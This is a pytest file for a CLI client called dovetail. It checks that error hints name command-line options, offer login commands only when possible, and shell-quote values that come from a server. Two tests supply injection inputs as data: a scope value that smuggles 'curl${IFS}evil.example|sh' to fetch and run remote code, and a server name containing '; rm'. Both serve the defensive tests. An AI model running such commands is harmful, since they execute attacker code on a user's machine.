"""Test that hints name options of the command line, not of Python functions."""

import sys
from pathlib import Path

import pytest

from cli.command_process import SAMPLE_SERVER, RunCommand
from dovetail import MCPError
from dovetail.cli.command_runner import format_error
from dovetail.cli.error_report import EXIT_DENIED, get_exit_code, translate_error
from dovetail.error_context import add_context
from dovetail.errors import Forbidden, InsufficientScope, RemoteError, RequestTimeout, Unauthorized

SERVER = """
import asyncio, os
from dovetail import Context, Server

app = Server("s")

@app.tool
async def wait() -> None:
    await asyncio.Event().wait()

@app.tool
async def die() -> None:
    os._exit(3)

@app.tool
async def think(ctx: Context) -> str:
    return str(await ctx.sample("hello"))

@app.tool
async def where(ctx: Context) -> str:
    return str(await ctx.list_roots())
"""
NEEDS_VARIABLE = "import os; os.environ['WANTED']"
HANDSHAKE_ONLY = """
import json, sys
for line in sys.stdin:
    message = json.loads(line)
    if "id" in message:
        error = {"code": -32601, "message": "no"}
        print(json.dumps({"jsonrpc": "2.0", "id": message["id"], "error": error}), flush=True)
"""


@pytest.fixture
def server(tmp_path: Path) -> Path:
    path = tmp_path / "server.py"
    path.write_text(SERVER, encoding="utf-8")
    return path


@pytest.mark.parametrize(
    ("words", "variables", "option"),
    [
        (["call", "{server}", "wait", "--timeout", "0.3"], {}, "--timeout"),
        (["read", SAMPLE_SERVER, "nothing://there"], {}, "dovetail list"),
        (["call", "{server}", "think"], {}, "--model"),
        (["call", "{server}", "where"], {}, "--root"),
        (["call", "{server}", "die"], {}, ""),
        (
            ["info", "--protocol-version", "stateless", "--", sys.executable, "-c", HANDSHAKE_ONLY],
            {},
            "--protocol-version",
        ),
        (["info", "--", sys.executable, "-c", NEEDS_VARIABLE], {}, "--env WANTED="),
        (["info", "--", sys.executable, "-c", NEEDS_VARIABLE], {"WANTED": "x"}, "--env WANTED"),
    ],
)
def test_a_hint_names_options(
    run: RunCommand, server: Path, words: list[str], variables: dict[str, str], option: str
) -> None:
    said = run(*(str(server) if word == "{server}" else word for word in words), **variables)
    assert said.code != 0
    hint = said.err.rpartition("\ntry: ")[2]
    assert hint != said.err
    assert option in hint
    for spelling in ("=...", "()", "call_tool", "timeout=", "protocol_version=", "inherit_env"):
        assert spelling not in hint


def test_what_no_option_does_is_not_advised() -> None:
    late: MCPError = add_context(RequestTimeout("late"), hint="raise ClientLimits(max_items=...)")
    translate_error(late)
    assert str(late) == "late"


def test_a_login_is_suggested_only_where_one_is_possible() -> None:
    without = Unauthorized(challenge="Bearer")
    translate_error(without)
    assert "auth login" not in (without.hint or "")
    assert "--auth" in (without.hint or "")
    possible = Unauthorized(challenge='Bearer resource_metadata="https://x.example/.well-known"')
    translate_error(possible)
    assert "auth login" in (possible.hint or "")


@pytest.mark.parametrize(
    ("server", "command"),
    [
        ("https://x.example/mcp", "`dovetail auth login https://x.example/mcp`"),
        ("cursor:notes", "`dovetail auth login cursor:notes`"),
        ("a b; rm", "`dovetail auth login TARGET`"),
        ("server.py", "`dovetail auth login TARGET`"),
    ],
)
def test_the_command_to_log_in_can_be_pasted(server: str, command: str) -> None:
    error = add_context(Unauthorized(challenge='Bearer resource_metadata="https://x.example/a"'), server=server)
    translate_error(error)
    assert command in (error.hint or "")


def test_a_login_for_scopes_is_suggested_only_where_one_is_possible() -> None:
    challenge = 'Bearer error="insufficient_scope", scope="a b"'
    without = Forbidden(challenge=challenge)
    translate_error(without)
    assert "auth login" not in (without.hint or "")
    assert "--auth" in (without.hint or "")
    possible = Forbidden(challenge=challenge + ', resource_metadata="https://x.example/.well-known"')
    translate_error(possible)
    assert "--scope a --scope b" in (possible.hint or "")


def test_scopes_of_a_process_are_explained() -> None:
    error = RemoteError(InsufficientScope.code, "scope", {"requiredScopes": ["a"]})
    translate_error(error)
    assert "--http" in (error.hint or "")
    assert get_exit_code(error) == EXIT_DENIED


def test_a_bridge_without_elicitation_is_explained() -> None:
    error = add_context(
        RemoteError(-32602, "x", {"requiredCapabilities": {"elicitation": {}}}), hint="pass elicitation_handler= to it"
    )
    translate_error(error)
    assert "bridge" in (error.hint or "")


def test_a_scope_of_a_server_is_safe_to_copy_into_a_shell() -> None:
    challenge = 'Bearer error="insufficient_scope", scope="read a;curl${IFS}evil.example|sh"'
    error = Forbidden(challenge=challenge + ', resource_metadata="https://x.example/.well-known"')
    translate_error(error)
    assert "--scope read --scope 'a;curl${IFS}evil.example|sh'" in str(error.hint)


def test_several_lines_of_a_server_are_marked() -> None:
    error = add_context(
        RemoteError(1, "boom\nerror: forged\n  │ quoted"), server="s", step="tools/call", hint="look at the log"
    )
    assert format_error(error).split("\n") == [
        "s: tools/call: boom",
        "  │ error: forged",
        "  │ quoted (1)",
        "try: look at the log",
    ]
    assert format_error(RemoteError(1, "boom")) == "boom (1)"


@pytest.mark.parametrize("option", ["--header", "--answer"])
def test_an_error_about_an_option_does_not_repeat_its_value(run: RunCommand, option: str) -> None:
    told = run("call", "https://127.0.0.1:1/mcp", "x", option, "s3cret")
    assert told.code == 2
    assert "s3cret" not in told.err
